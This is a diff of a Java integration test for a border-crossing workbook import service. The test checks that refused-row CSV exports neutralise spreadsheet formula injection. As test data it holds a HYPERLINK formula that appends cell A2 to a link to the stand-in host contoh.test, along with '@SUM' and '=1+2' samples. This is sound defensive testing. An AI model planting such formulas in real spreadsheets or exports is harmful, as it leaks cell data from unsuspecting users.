@@ -20,6 +20,7 @@ import id.pantau.WebSession;
 import id.pantau.crossings.domain.CrossingImports;
 import id.pantau.crossings.domain.ImportResult;
 import id.pantau.platform.tables.Csv;
+import id.pantau.platform.tables.DelimitedRows;
 import id.pantau.platform.tables.UnreadableFile;
 import id.pantau.platform.tables.Workbooks;
 import org.junit.jupiter.api.Test;
@@ -116,10 +117,10 @@ class CrossingWorkbookImportIntegrationTests {
 
 		String refused = WebSession.loggedIn(port, "imigrasi")
 				.get("/perlintasan/batch/" + result.batchId() + "/ditolak.csv").body();
-		List<String> headerCells = Csv.fields(refused.lines().findFirst().orElseThrow().substring(1));
+		List<String> headerCells = DelimitedRows.fields(refused.lines().findFirst().orElseThrow().substring(1));
 		assertThat(headerCells).contains("'=HYPERLINK(\"http://contoh.test/?\"&A2,\"klik\")", "'@SUM(1+1)",
 				"alasan_ditolak");
-		refused.lines().skip(1).map(Csv::fields).forEach(cells -> assertThat(cells)
+		refused.lines().skip(1).map(DelimitedRows::fields).forEach(cells -> assertThat(cells)
 				.noneMatch(Csv::isFormula).contains("'=1+2"));
 		assertThat(headerCells).noneMatch(Csv::isFormula);
 	}
